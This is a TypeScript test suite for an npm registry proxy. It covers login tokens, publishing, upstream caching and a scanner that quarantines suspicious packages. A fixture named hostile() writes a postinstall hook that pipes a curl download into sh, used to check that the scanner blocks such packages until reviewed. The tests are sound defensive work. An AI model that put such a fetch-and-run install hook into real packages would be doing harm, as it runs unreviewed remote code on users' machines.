import { readdirSync, readFileSync, rmSync, statSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { startProcess } from "../support/process.ts";
import { digestsOf } from "../support/tarball.ts";
import { packumentPath, tarballPath } from "../support/upstream.ts";
import {
  filesBelow,
  hasNode,
  installed,
  isInstalled,
  lockedIn,
  startWorld,
  type World,
} from "./client.ts";

const timeout = 60_000;

/** The person would otherwise wait 70 seconds for a failure that npm takes for a passing one. */
const once = "--fetch-retries=0";

describe.skipIf(!hasNode)("npm: who somebody is", { timeout }, () => {
  test("agentregistry login writes the line of .npmrc that npm needs, and keeps the others", async () => {
    await using world = await startWorld();
    const npmrc = join(world.userHome, ".npmrc");
    const before = `; mine\n\nregistry=${world.registry.url}/\nfund=false\n`;
    await Bun.write(npmrc, before);

    const said = await world.cli("login");

    const key = `//${new URL(world.registry.url).host}/:_authToken`;
    const text = readFileSync(npmrc, "utf8");
    expect(text).toMatch(new RegExp(`^${RegExp.escape(`${before}${key}=`)}areg_[\\w-]{43}\n$`));
    expect(statSync(npmrc).mode & 0o777).toBe(0o600);
    expect(said.stdout).toContain(`wrote a token for ${world.registry.url}/ to ${npmrc}`);
    expect((await world.npmOk(["whoami"], world.folder({}))).stdout).toBe("owner\n");

    await world.cli("login");
    expect(readFileSync(npmrc, "utf8").split(key)).toHaveLength(2);
  });

  test("npm ping answers without a token", async () => {
    await using world = await startWorld();
    const { stderr } = await world.npmOk(["ping"], world.folder({}));
    expect(stderr).toContain("npm notice PONG");
  });

  test("npm logout ends the token and leaves nothing of it in the log", async () => {
    await using world = await startWorld();
    const folder = world.folder({});
    await world.cli("login");
    const token = readFileSync(join(world.userHome, ".npmrc"), "utf8").split("_authToken=")[1];
    const secret = token?.trim() ?? "";
    expect(secret).toMatch(/^areg_/);

    await world.npmOk(["logout"], folder);

    expect(readFileSync(join(world.userHome, ".npmrc"), "utf8")).not.toContain("_authToken");
    const headers = { authorization: `Bearer ${secret}` };
    expect((await world.registry.fetch("/-/whoami", { headers })).status).toBe(401);
    expect((await world.npm(["whoami"], folder)).stderr).toContain("npm error code ENEEDAUTH");

    await world.registry.kill("SIGTERM");
    const log = readFileSync(join(world.registry.home, "run", "agentregistry.log"), "utf8");
    expect(log).toContain("/-/user/token/");
    expect(log).not.toContain(secret);
  });

  test("publishing without a token, or with one that is not ours, says how to get one", async () => {
    await using world = await startWorld();
    const folder = world.project({ name: "@acme/tool", version: "1.0.0" });

    const nobody = await world.npm(["publish"], folder);
    expect(nobody.code).toBe(1);
    expect(nobody.stderr).toContain(`requires you to be logged in to ${world.registry.url}/`);

    const key = `//${new URL(world.registry.url).host}/:_authToken`;
    const stranger = await world.npm(["publish", `--${key}=areg_nobody`], folder);
    expect(stranger.code).toBe(1);
    expect(stranger.stderr).toContain("npm error code E401");
    expect(stranger.stderr).toContain("please try logging in again");

    expect((await world.registry.fetch("/@acme%2ftool")).status).toBe(404);
  });
});

describe.skipIf(!hasNode)("npm: what is published here", { timeout }, () => {
  test("is installed as it was published, with defaults, and again from the lock file", async () => {
    await using world = await startWorld();
    await world.cli("login");
    const plain = { "index.js": "module.exports = 'plain ü';\n", "data.bin": randomBytes(20_000) };
    const cli = "#!/usr/bin/env node\nconsole.log('tool runs');\n";
    await publish(world, { name: "plain-thing", version: "1.0.0" }, plain);
    await publish(
      world,
      { name: "@acme/tool", version: "1.2.3", bin: "cli.js" },
      { "cli.js": cli },
    );
    await publish(world, { name: "@acme/beta", version: "2.0.0-rc.1" }, {}, ["--tag", "next"]);

    const project = world.project();
    const { stdout } = await world.npmOk(
      ["install", "plain-thing", "@acme/tool", "@acme/beta@next"],
      project,
    );

    expect(stdout).toContain("added 3 packages");
    expect(installed(project, "plain-thing/index.js")).toEqual(Buffer.from(plain["index.js"]));
    expect(installed(project, "plain-thing/data.bin")).toEqual(Buffer.from(plain["data.bin"]));
    expect((await world.npmOk(["exec", "tool"], project)).stdout).toBe("tool runs\n");
    for (const [name, file] of [
      ["plain-thing", "plain-thing-1.0.0.tgz"],
      ["@acme/tool", "tool-1.2.3.tgz"],
    ] as const) {
      const locked = lockedIn(project, name);
      expect(locked.resolved).toBe(`${world.registry.url}/${name}/-/${file}`);
      const bytes = await (await fetch(locked.resolved)).bytes();
      expect(locked.integrity).toBe(digestsOf(bytes).integrity);
    }

    const lock = readFileSync(join(project, "package-lock.json"));
    rmSync(join(project, "node_modules"), { recursive: true });
    world.emptyClientCache();
    await world.npmOk(["ci"], project);
    expect(readFileSync(join(project, "package-lock.json"))).toEqual(lock);
    expect(installed(project, "plain-thing/data.bin")).toEqual(Buffer.from(plain["data.bin"]));

    // Before its first publish nobody knows that @acme is ours; from then on it stays here.
    const asked = new Set(world.upstream.requests.map((request) => request.path));
    expect([...asked].filter((path) => /acme|tool|beta/.test(path))).toEqual([
      packumentPath("@acme/tool"),
    ]);
  });

  test("never changes: other bytes are refused, the same bytes are the same publish", async () => {
    await using world = await startWorld();
    await world.cli("login");
    const manifest = { name: "@acme/tool", version: "1.0.0" };
    const folder = world.project(manifest, { "index.js": "1;\n" });
    await world.npmOk(["publish"], folder);
    const original = await (await world.registry.fetch("/@acme/tool/-/tool-1.0.0.tgz")).bytes();

    const again = await world.npm(["publish"], folder);
    expect(again.code).toBe(1);
    expect(again.stderr).toContain("cannot publish over the previously published versions: 1.0.0");
    expect((await world.npmOk(["publish", "--force"], folder)).stdout).toBe("+ @acme/tool@1.0.0\n");

    const other = world.project(manifest, { "index.js": "2;\n" });
    const refused = await world.npm(["publish", "--force"], other);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain("npm error code E403");
    expect(refused.stderr).toContain(
      "@acme/tool@1.0.0 is already published; publish a new version number",
    );
    const now = await (await world.registry.fetch("/@acme/tool/-/tool-1.0.0.tgz")).bytes();
    expect(now).toEqual(original);
  });

  test("is shown by npm view and fetched by npm pack", async () => {
    await using world = await startWorld();
    await world.cli("login");
    const manifest = {
      name: "@acme/tool",
      version: "1.0.0",
      description: "A tool",
      license: "MIT",
    };
    await publish(world, manifest, { "index.js": "1;\n", "README.md": "# tool\n" });
    await publish(world, { ...manifest, version: "1.1.0" }, { "index.js": "2;\n" });
    const folder = world.folder({});

    const shown = await world.npmOk(["view", "@acme/tool", "--json"], folder);
    expect(JSON.parse(shown.stdout)).toMatchObject({
      name: "@acme/tool",
      version: "1.1.0",
      description: "A tool",
      license: "MIT",
      versions: ["1.0.0", "1.1.0"],
      "dist-tags": { latest: "1.1.0" },
      maintainers: ["owner <owner@agentregistry.invalid>"],
    });

    const packed = await world.npmOk(["pack", "@acme/tool@1.0.0", "--json"], folder);
    const [entry] = JSON.parse(packed.stdout) as { filename: string; integrity: string }[];
    const bytes = readFileSync(join(folder, entry?.filename ?? ""));
    expect(digestsOf(bytes).integrity).toBe(entry?.integrity);
    expect(bytes).toEqual(
      Buffer.from(await (await world.registry.fetch("/@acme/tool/-/tool-1.0.0.tgz")).bytes()),
    );

    const missing = await world.npm(["view", "@acme/nothing"], folder);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain("npm error code E404");
  });

  test("hides what the upstream has under the same name only after a claim", async () => {
    await using world = await startWorld();
    await world.cli("login");
    world.upstream.add("known", "9.0.0");
    const folder = world.project({ name: "known", version: "1.0.0" }, { "index.js": "ours;\n" });

    const refused = await world.npm(["publish"], folder);
    expect(refused.code).toBe(1);
    expect((await world.npm(["publish", "--force"], folder)).stderr).toContain(
      "claim it first: `agentregistry claim known`",
    );

    await world.cli("claim", "known");
    await world.npmOk(["publish"], folder);
    const project = world.project();
    world.emptyClientCache();
    await world.npmOk(["install", "known"], project);
    expect(lockedIn(project, "known").version).toBe("1.0.0");
  });
});

describe.skipIf(!hasNode)("npm: what comes from the upstream", { timeout }, () => {
  test("installs with its dependencies, peers, optional ones and commands", async () => {
    await using world = await startWorld();
    const { upstream } = world;
    const bin = "#!/usr/bin/env node\nconsole.log(require('leaf'));\n";
    upstream.add("leaf", "1.0.0", { "index.js": "module.exports = 'old';\n" });
    upstream.add("leaf", "1.4.2", { "index.js": "module.exports = 'leaf';\n" });
    upstream.add("leaf", "2.0.0", { "index.js": "module.exports = 'new';\n" });
    upstream.add("host", "3.0.0");
    upstream.add("@other/native", "1.0.0", {}, { manifest: { os: ["plan9"] } });
    const manifest = {
      bin: { "say-leaf": "cli.js" },
      dependencies: { leaf: "^1.0.0" },
      peerDependencies: { host: ">=2", missing: "*" },
      peerDependenciesMeta: { missing: { optional: true } },
      optionalDependencies: { "@other/native": "^1.0.0" },
    };
    const bytes = upstream.add("@other/app", "1.0.0", { "cli.js": bin }, { manifest });

    const project = world.project();
    await world.npmOk(["install", "@other/app"], project);

    expect(readdirSync(join(project, "node_modules")).sort()).toEqual([
      ".bin",
      ".package-lock.json",
      "@other",
      "host",
      "leaf",
    ]);
    expect(lockedIn(project, "leaf").version).toBe("1.4.2");
    expect(isInstalled(project, "@other/native")).toBe(false);
    expect(lockedIn(project, "@other/app")).toMatchObject({
      resolved: `${world.registry.url}/@other/app/-/app-1.0.0.tgz`,
      integrity: digestsOf(bytes).integrity,
    });
    expect((await world.npmOk(["exec", "say-leaf"], project)).stdout).toBe("leaf\n");
  });

  test("is fetched once: a second computer costs the upstream no tarball", async () => {
    await using world = await startWorld();
    const { upstream } = world;
    upstream.add("leaf", "1.0.0", { "index.js": "1;\n" });
    upstream.add("app", "1.0.0", {}, { manifest: { dependencies: { leaf: "1.0.0" } } });
    await world.npmOk(["install", "app"], world.project());
    expect(upstream.seen(tarballPath("leaf", "1.0.0"))).toHaveLength(1);

    world.emptyClientCache();
    const second = world.project();
    await world.npmOk(["install", "app"], second);

    expect(installed(second, "leaf/index.js").toString()).toBe("1;\n");
    expect(upstream.seen(tarballPath("leaf", "1.0.0"))).toHaveLength(1);
    expect(upstream.seen(tarballPath("app", "1.0.0"))).toHaveLength(1);
    expect(upstream.seen(packumentPath("app"))).toHaveLength(1);
  });

  test("installs from the stored copies while the upstream is down", async () => {
    await using world = await startWorld({ settings: "upstream.fresh_seconds = 0\n" });
    world.upstream.add("leaf", "1.0.0", { "index.js": "1;\n" });
    world.upstream.add("app", "1.0.0", {}, { manifest: { dependencies: { leaf: "1.0.0" } } });
    await world.npmOk(["install", "app"], world.project());

    await world.upstream.stop();
    world.emptyClientCache();
    const second = world.project();
    await world.npmOk(["install", "app"], second);
    expect(installed(second, "leaf/index.js").toString()).toBe("1;\n");

    const unknown = await world.npm(["install", "never-seen", once], second);
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toContain("the upstream registry cannot be reached");
  });

  test("npm ci works on a registry whose cache was emptied, although it asks for tarballs only", async () => {
    await using world = await startWorld();
    const { registry, upstream } = world;
    upstream.add("leaf", "1.0.0", { "index.js": "1;\n" });
    const project = world.project();
    await world.npmOk(["install", "leaf"], project);
    await registry.kill("SIGTERM");
    rmSync(join(registry.home, "cache"), { recursive: true });
    rmSync(join(project, "node_modules"), { recursive: true });
    world.emptyClientCache();

    await using _again = await startProcess({
      home: registry.home,
      upstream: upstream.url,
      port: Number(new URL(registry.url).port),
    });
    await world.npmOk(["ci"], project);
    expect(installed(project, "leaf/index.js").toString()).toBe("1;\n");
  });

  for (const [what, fault, sentence] of [
    ["other bytes than it declared", { kind: "body", body: "something else" }, "sent other bytes"],
    ["half of a tarball", { kind: "cut" }, "the upstream registry broke off a tarball"],
    ["an error page", { kind: "status", status: 500 }, "answered 500 for a tarball"],
  ] as const) {
    test(`an upstream that sends ${what} spoils nothing`, async () => {
      await using world = await startWorld();
      const path = tarballPath("leaf", "1.0.0");
      world.upstream.add("leaf", "1.0.0", { "index.js": "1;\n", "data.bin": randomBytes(300_000) });
      world.upstream.fail(path, fault);
      const project = world.project();

      const failed = await world.npm(["install", "leaf", once], project);
      expect(failed.code).toBe(1);
      expect(failed.stderr).toContain("npm error code E502");
      expect(failed.stderr).toContain(sentence);
      expect(filesBelow(join(world.registry.home, "cache", "blobs"))).toEqual([]);
      expect(isInstalled(project, "leaf")).toBe(false);

      world.upstream.heal(path);
      await world.npmOk(["install", "leaf", once], project);
      expect(installed(project, "leaf/index.js").toString()).toBe("1;\n");
    });
  }
});

describe.skipIf(!hasNode)("npm: what the scanner holds", { timeout }, () => {
  test("fails to install with the reason and the command, until a person approves it", async () => {
    await using world = await startWorld();
    const bytes = world.upstream.add("setup-tool", "1.0.0", {}, { manifest: hostile(world) });
    const project = world.project();

    for (const _attempt of ["the scan", "what is known"]) {
      const held = await world.npm(["install", "setup-tool"], project);
      expect(held.code).toBe(1);
      expect(held.stderr).toContain("npm error code E403");
      expect(held.stderr).toContain("Package blocked by security scan: setup-tool@1.0.0 (INS-01: ");
      expect(held.stderr).toContain("`agentregistry quarantine show setup-tool@1.0.0`");
      expect(isInstalled(project, "setup-tool")).toBe(false);
    }
    expect(world.registry.stderr()).toMatch(
      /^held setup-tool@1\.0\.0 \(INS-01.*\): agentregistry quarantine show setup-tool@1\.0\.0$/m,
    );

    const [listed, ...others] = JSON.parse(
      (await world.cli("quarantine", "list", "--json")).stdout,
    ) as { id: string }[];
    expect(others).toEqual([]);
    expect(listed).toMatchObject({ name: "setup-tool", version: "1.0.0", state: "held" });
    const record = JSON.parse(
      (await world.cli("quarantine", "show", "setup-tool@1.0.0", "--json")).stdout,
    ) as { id: string; issues: { ruleId: string; file: string; excerpt: string }[] };
    expect(record.id).toBe(listed?.id ?? "");
    expect(record).toMatchObject({
      integrity: digestsOf(bytes).integrity,
      source: "upstream",
      verdict: "block",
      ruling: null,
    });
    expect(record.issues[0]).toMatchObject({ ruleId: "INS-01", file: "package.json" });
    expect(record.issues[0]?.excerpt).toContain("| sh");

    const because = ["--reason", "read the script, it is ours"];
    await world.cli("quarantine", "approve", "setup-tool@1.0.0", ...because);
    await world.npmOk(["install", "setup-tool"], project);
    expect(lockedIn(project, "setup-tool").integrity).toBe(digestsOf(bytes).integrity);
    expect(
      JSON.parse((await world.cli("quarantine", "list", "--state", "all", "--json")).stdout),
    ).toMatchObject([{ state: "approved", ruling: { reason: because[1], person: "owner" } }]);
  });

  test("is refused for good once a person rejected it; ranges resolve to a good version", async () => {
    await using world = await startWorld();
    world.upstream.add("setup-tool", "1.0.0", { "index.js": "1;\n" });
    world.upstream.add("setup-tool", "1.1.0", {}, { manifest: hostile(world) });
    expect((await world.npm(["install", "setup-tool"], world.project())).code).toBe(1);
    await world.cli("quarantine", "reject", "setup-tool@1.1.0", "--reason", "downloads a program");

    const exact = await world.npm(["install", "setup-tool@1.1.0"], world.project());
    expect(exact.code).toBe(1);
    expect(exact.stderr).toContain("npm error code E403");
    expect(exact.stderr).toContain(
      "Could not download setup-tool@1.1.0 due to policy violations:\n" +
        "npm error 403 Package blocked: setup-tool@1.1.0 was rejected after review; " +
        "choose another version, or see `agentregistry quarantine show setup-tool@1.1.0`",
    );

    const project = world.project();
    await world.npmOk(["install", "setup-tool"], project);
    expect(lockedIn(project, "setup-tool").version).toBe("1.0.0");
  });

  test("keeps a hostile publish, refuses it with the reason, and serves it only once approved", async () => {
    await using world = await startWorld();
    await world.cli("login");
    const folder = world.project({ name: "@acme/setup", version: "1.0.0", ...hostile(world) });

    const held = await world.npm(["publish"], folder);
    expect(held.code).toBe(1);
    expect(held.stderr).toContain("npm error code E403");
    expect(held.stderr).toContain("Package blocked by security scan: @acme/setup@1.0.0 (INS-01: ");
    expect((await world.npm(["install", "@acme/setup"], world.project())).code).toBe(1);

    await world.cli("quarantine", "approve", "@acme/setup@1.0.0", "--reason", "it is our own");
    const project = world.project();
    await world.npmOk(["install", "@acme/setup"], project);
    expect(lockedIn(project, "@acme/setup").version).toBe("1.0.0");
  });
});

async function publish(
  world: World,
  manifest: object,
  files: Record<string, string | Uint8Array>,
  args: readonly string[] = [],
): Promise<void> {
  await world.npmOk(["publish", ...args], world.project(manifest, files));
}

/** A hook that downloads a script and runs it. What it would fetch here is nothing. */
function hostile(world: World): object {
  return { scripts: { postinstall: `curl -sf ${world.upstream.url}/setup.sh | sh` } };
}

function randomBytes(length: number): Uint8Array {
  return crypto.getRandomValues(new Uint8Array(length));
}
